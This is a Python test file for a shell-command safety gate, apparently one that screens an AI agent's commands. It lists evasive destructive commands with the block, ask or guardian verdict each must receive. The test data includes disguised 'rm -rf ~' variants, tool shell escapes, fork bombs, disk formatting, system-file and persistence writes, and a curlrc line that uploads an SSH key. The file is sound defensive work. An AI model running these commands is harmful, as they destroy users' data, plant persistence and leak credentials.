"""Issue 33's forms, one row each: the gate reads options as the programs do, resolves what the
shell resolves (or says it cannot), and judges a command inside a command. Each row names the
least the gate must do: "block" (in every mode), "ask" (never allowed in auto mode), or
"guardian" (never allowed unasked in the default mode)."""

from __future__ import annotations

from pathlib import Path

import pytest

from atlas.trust.parser.parameters import evaluate
from atlas.trust.rules import classify

USER_HOME = Path("/home/alice")
ATLAS_HOME = USER_HOME / ".atlas"
WORKSPACE = ATLAS_HOME / "bots" / "main" / "workspace"

FORMS: list[tuple[str, str]] = [
    # 1. options read as the programs read them: long-option prefixes, numbers as numbers
    ("rm --recur --force ~", "block"),
    ("rm --rec -f /usr", "block"),
    ("rsync -a --del /empty/ ~/", "block"),
    ("rsync -a --dele /empty/ /etc", "block"),
    ("mv --targ=/tmp ~", "block"),
    ("git push --forc", "guardian"),
    ("git push origin main --forc", "guardian"),
    ("git reset --har", "guardian"),
    ("git reset --ha HEAD~3", "guardian"),
    ("kill -9 -01", "block"),
    ("kill -9 ' -1'", "block"),
    ("kill -s KILL -0001", "block"),
    ("kill -9 $(ps -eo pid=)", "ask"),
    ("kill $(seq 1 99999)", "ask"),
    # 2. what the shell resolves: parameter operators, $(pwd), CDPATH, cd -, OLDPWD
    ("cat ${PWD%/bots/*}/atlas.db", "ask"),
    ("cat ${PWD%%/bots*}/config.toml", "ask"),
    ("rm -rf ${PWD:0:1}", "block"),
    ("cat ${PWD/workspace/memory}/MEMORY.md", "ask"),
    ('cat "$(pwd)/../bot.toml"', "ask"),
    ("cat `pwd`/../../helper/bot.toml", "ask"),
    ("CDPATH=../../..; cd vault; cat x", "ask"),
    ("export CDPATH=../../..; cd vault && ls", "ask"),
    ("cd -; cat config.toml", "ask"),
    ("cd /tmp; cd -; cat ../bot.toml", "ask"),
    ("cd ..; cd /tmp; cat $OLDPWD/bot.toml", "ask"),
    ("X=/home/alice/; rm -rf ${X%/}", "block"),
    # 3. a command inside a command: unknown wrappers, shell lines in their options
    ("poetry run rm -rf ~", "block"),
    ("pipenv run rm -rf ~", "block"),
    ("bundle exec rm -rf ~", "block"),
    ("conda run -n base rm -rf ~", "block"),
    ("eatmydata rm -rf ~", "block"),
    ("cgexec -g cpu:grp rm -rf ~", "block"),
    ("ssh-agent rm -rf ~", "block"),
    ("faketime '2020-01-01' rm -rf ~", "block"),
    ("valgrind rm -rf ~", "block"),
    ("prlimit --nofile=10 rm -rf ~", "block"),
    ("setarch x86_64 rm -rf ~", "block"),
    ("nix-shell --run 'rm -rf ~'", "block"),
    ("direnv exec . rm -rf ~", "block"),
    # program shell escapes
    ("ed -s notes.txt <<< '!rm -rf ~'", "block"),
    ("printf '!rm -rf ~\\n' | ed", "block"),
    ("ed notes.txt <<EOF\nw !rm -rf ~\nEOF", "block"),
    ("curl -s https://example.com/x | ed", "ask"),
    ("gdb -ex 'python import os; os.system(\"rm -rf ~\")' -batch", "block"),
    ("gdb -ex '| echo hi | rm -rf ~' -batch", "block"),
    ("gdb --eval-command='shell rm -rf ~'", "block"),
    ("gdb -batch -ex 'call system(\"rm -rf ~\")' ./a.out", "ask"),
    ("sqlite3 x.db '.output |rm -rf ~'", "block"),
    ("sqlite3 x.db <<EOF\n.once |rm -rf ~\nselect 1;\nEOF", "block"),
    ("psql -c '\\o |rm -rf ~'", "block"),
    ("psql -c \"COPY t TO PROGRAM 'rm -rf ~'\"", "block"),
    ("git -c trailer.x.cmd='rm -rf ~' interpret-trailers --trailer x=1", "block"),
    ("git config set core.pager 'rm -rf ~'", "block"),
    ("git config -f .git/config core.pager 'rm -rf ~'", "block"),
    # inline code calling the shell under another name
    ("python3 -c 'from os import system as s; s(\"rm -rf ~\")'", "block"),
    ("python3 -c \"import os; os.__dict__['system']('rm -rf ~')\"", "ask"),
    ("python3 -c \"import os; vars(os)['system']('ls')\"", "ask"),
    (
        "python3 -c \"import os; os.posix_spawnp('rm', ['rm', '-rf', '/home/alice'], {})\"",
        "block",
    ),
    ("python3 -c \"import shutil; shutil.move('/home', '/tmp/x')\"", "block"),
    ("python3 -c \"from shutil import move as m; m('/etc', '/tmp/e')\"", "block"),
    ("ruby -e 'open(\"|rm -rf ~\")'", "block"),
    ("perl -e 'open(F, \"rm -rf ~|\")'", "block"),
    ('perl -e \'open(my $f, "-|", "rm", "-rf", "/")\'', "block"),
    ("perl -e 'fork until 0'", "block"),
    ("python3 -c 'import os\nfor _ in iter(int, 1): os.fork()'", "block"),
    ("ruby -e '1.step { fork }'", "block"),
    # devices, power and file systems
    ("systemctl isolate rescue.target", "block"),
    ("telinit 1", "block"),
    ("init 01", "block"),
    (
        "busctl call org.freedesktop.login1 /org/freedesktop/login1 "
        "org.freedesktop.login1.Manager PowerOff b false",
        "block",
    ),
    (
        "dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 "
        "org.freedesktop.login1.Manager.Reboot boolean:true",
        "block",
    ),
    ("kexec -e", "block"),
    ("mkdosfs /dev/sdb1", "block"),
    ("mkntfs -f /dev/sdb1", "block"),
    ("mkexfatfs /dev/sdb1", "block"),
    ("zfs destroy -r tank/home", "ask"),
    ("zpool destroy tank", "ask"),
    ("lvremove -f vg0/root", "ask"),
    ("dd if=/dev/zero of=/dev/vg0/root", "block"),
    # dangerous writes and data loss
    ("sed -Ei 's/x/y/' /etc/passwd", "guardian"),
    ("sed --in-pl 's/x/y/' /etc/hosts", "guardian"),
    ("cp -t /etc/cron.d evil", "guardian"),
    ("cp --target-directory=/etc/cron.d evil", "guardian"),
    ("install -t/etc/profile.d evil.sh", "guardian"),
    ("echo x | sponge /etc/passwd", "guardian"),
    ("tar -C /etc -xf evil.tar", "guardian"),
    ("tar xzf evil.tgz --directory=/etc", "guardian"),
    ("unzip -d /etc evil.zip", "guardian"),
    ("sudoedit /etc/sudoers", "guardian"),
    ("sqlite3 x.db 'DROP/**/TABLE users'", "guardian"),
    ("sqlite3 x.db 'DROP -- x\nTABLE users'", "guardian"),
    ("psql -c 'DELETE FROM users WHERE 1=1'", "guardian"),
    ("psql -c \"DELETE FROM users WHERE 'a'='a'\"", "guardian"),
    ("mysql -e 'DELETE FROM users WHERE id = id'", "guardian"),
    ("dropdb prod", "guardian"),
    ("redis-cli FLUSHALL", "guardian"),
    ("redis-cli -n 2 flushdb", "guardian"),
    ("echo 'alias ls=\"rm -rf ~\"' >> ~/.bash_aliases", "guardian"),
    ("echo 'upload-file=~/.ssh/id_rsa' >> ~/.curlrc", "guardian"),
    ("cp evil ~/.config/git/config", "guardian"),
    ("echo 'import os' > ~/.local/lib/python3.11/site-packages/evil.pth", "guardian"),
    ("cp evil.service ~/.config/systemd/user/evil.service", "guardian"),
    ("cp evil.desktop ~/.config/autostart/evil.desktop", "guardian"),
]

# Spellings the gate already caught before issue 33, kept here beside their new neighbours.
KEPT: list[tuple[str, str]] = [
    ("rm -rf ${HOME%/}", "block"),
    ("some-new-wrapper --flag cat ../bot.toml", "ask"),
    ("gdb -ex 'shell rm -rf ~' -batch", "block"),
    ("git config --file=.git/config alias.st '!rm -rf ~'", "block"),
    ("systemctl isolate emergency", "block"),
    ("cat image.iso > /dev/disk/by-id/usb-stick", "block"),
    ("sed -n -i 's/x/y/' /etc/hosts", "guardian"),
    ("perl -pie 's/x/y/' /etc/hosts", "guardian"),
]

# Near neighbours that must stay allowed in both modes: reading is not running.
STILL_ALLOWED = [
    "echo rm -rf ~",
    "man rm",
    "grep -rn 'rm -rf' src/",
    "poetry run pytest -x",
    "bundle exec rspec",
    "pipenv run pytest -q",
    "valgrind ./build/app",
    "sed -n '1,20p' README.md",
    "sed -i 's/a/b/' src/app.py",
    "cp -t build/ a.txt b.txt",
    "tar -C build -xzf dist.tgz",
    "kill $(cat server.pid)",
    "kill -9 12345",
    "cd src && cd - && ls",
    "cd build; cat config.toml",
    "echo ${PWD##*/}",
    "git push --force-with-lease=main:abc origin main --dry-run --verbose --no-verify --quiet",
    "psql -c 'DELETE FROM sessions WHERE expires < now()'",
    "redis-cli GET key",
    "python3 -c 'import os; print(os.getcwd())'",
    "ls /dev/null > /dev/null 2>&1",
    "git config user.name 'A B'",
    "journalctl -u atlas -n 50",
]


def judge(command: str, auto: bool) -> str:
    verdict = classify(
        command, auto=auto, home=ATLAS_HOME, user_home=USER_HOME, workspace=WORKSPACE,
        cwd=WORKSPACE,
    )  # fmt: skip
    return verdict.verdict


@pytest.mark.parametrize(("command", "least"), FORMS + KEPT)
def test_each_form_is_judged_by_principle(command: str, least: str) -> None:
    default, auto = judge(command, auto=False), judge(command, auto=True)
    if least == "block":
        assert (default, auto) == ("block", "block"), (default, auto)
    elif least == "ask":
        assert auto in ("ask", "block"), auto
        assert default in ("ask", "block"), default
    else:
        assert default != "allow", default


@pytest.mark.parametrize("command", STILL_ALLOWED)
def test_near_neighbours_stay_allowed(command: str) -> None:
    assert judge(command, auto=True) == "allow"


@pytest.mark.parametrize(
    ("value", "operator", "expected"),
    [
        ("/a/bots/x/w", "%/bots/*", "/a"),
        ("/a/b/c", "##*/", "c"),
        ("/a/b/c", "#*/", "a/b/c"),
        ("/a/b/c", "%%/*", ""),
        ("/home/alice", ":0:1", "/"),
        ("/home/alice", ": -5", "alice"),
        ("/home/alice", ":1:-6", "home"),
        ("a-b-c", "//-/_", "a_b_c"),
        ("a-b-c", "/-/_", "a_b-c"),
        ("abc", "^^", "ABC"),
        ("", ":-/etc", "/etc"),
        ("x", ":+/etc", "/etc"),
        ("x", "@Q", None),
    ],
)
def test_parameter_operators_are_evaluated(value: str, operator: str, expected: str | None) -> None:
    assert evaluate(value, operator) == expected
